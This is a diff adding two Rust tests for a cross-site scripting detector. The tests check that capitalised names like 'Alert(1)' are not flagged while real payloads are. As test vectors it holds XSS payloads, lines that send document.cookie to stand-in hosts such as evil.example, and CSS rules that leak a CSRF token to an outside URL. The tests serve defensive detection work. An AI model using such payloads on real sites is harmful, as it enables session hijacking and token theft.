@@ -1365,3 +1365,67 @@ fn octal_escapes_and_nested_keywords() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+/// JavaScript names are case-sensitive: `Alert`, `ALERT`, `Prompt` are no browser API, so a
+/// title or product name shaped like a call runs nothing. HTML tag and attribute names and
+/// URL schemes are case-insensitive, and VBScript's `MsgBox` is read in any case.
+#[test]
+fn script_names_keep_their_case() {
+    for v in [
+        "Alert(1) - Season 1 Episode 1",
+        "ALERT(1)",
+        "Prompt(1)",
+        "CONFIRM(2) steps",
+        "Eval(2024) results",
+        "Fetch(3) - the dog's game",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        "alert(1)",
+        "';alert(1)//",
+        "<svg onload=alert(1)>",
+        "\" ONLOAD=alert(1) x=\"",
+        "<SCRIPT>ALERT(1)</SCRIPT>",
+        "<IMG SRC=JaVaScRiPt:alert(1)>",
+        "JAVASCRIPT:alert(1)",
+        "vbscript:MSGBOX(1)",
+        "setTimeout('alert(1)')",
+        "document.write('<img src=x onerror=alert(1)>')",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
+
+/// Script and style that act without a sink call the location-independent rules knew:
+/// locations without the ML stage (cookies, User-Agent, Referer, other headers) rely on
+/// these. A URL built from `document.cookie`, the `Function` constructor as a template tag,
+/// a CSS keyword split by an escape, a CSS rule that fetches an outside URL by an input's
+/// value.
+#[test]
+fn statements_and_styles_without_a_sink_call() {
+    for v in [
+        "x=new XMLHttpRequest();x.open('GET','//evil/'+document.cookie);x.send()",
+        "new Image().src=\"https://evil.example/c?\"+escape(document.cookie)",
+        "location='http://evil.example/?c=' + document.cookie",
+        "new Function`alert\\`1\\``",
+        "Function`alert\\x281\\x29```",
+        "w\\idth:expr\\ession(alert(1))",
+        "x:exp\\ression(alert(1))",
+        "red;}input[name=csrf][value^=a]{background:url(//evil.tld/a)}",
+        "<style>input[value^=\"a\"]{background:url(https://evil.tld/?a)}</style>",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "var share = 'https://example.com/?t=' + document.title",
+        "console.log('cookies: ' + document.cookie)",
+        "the `Function` constructor compiles a string",
+        "new Function`return 1`",
+        "see C:\\expression\\files",
+        "a[href^=\"http\"]{background:url(https://cdn.example.com/ext.png)}",
+        "input[value^=a]{border:1px solid red}",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
